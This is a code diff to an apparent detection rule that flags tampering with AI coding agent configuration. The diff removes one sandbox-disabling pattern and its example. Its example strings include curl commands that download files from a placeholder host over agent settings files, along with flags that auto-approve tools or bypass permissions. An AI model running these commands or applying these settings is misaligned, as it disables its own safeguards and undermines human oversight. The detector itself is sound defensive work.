@@ -26,7 +26,6 @@ export const rule: Rule = {
       re: /chat\.tools\.(?:global\.)?autoApprove\\?["']\s{0,2}:\s{0,2}true/,
       accept: ({ before, after }) => /[{,"]|write|edit|create|add|settings/i.test(before + after),
     },
-    { re: /(?:dangerouslyDisableSandbox|autoApproveAll|dangerously_skip_permissions)\\?["']?\s{0,2}[:=]\s{0,2}true/i },
     { re: /defaultMode\\?["']\s{0,2}:\s{0,2}\\?["']bypassPermissions/ },
   ],
   examples: {
@@ -35,7 +34,6 @@ export const rule: Rule = {
       'tee -a $HOME/.codex/AGENTS.md',
       'curl -so ~/.cursor/mcp.json https://files.invalid/m.json; curl https://files.invalid/m -o ~/.claude/settings.json',
       '{"chat.tools.autoApprove": true}',
-      'dangerouslyDisableSandbox: true',
       '{"permissions": {"defaultMode": "bypassPermissions"}}',
     ],
     silent: [
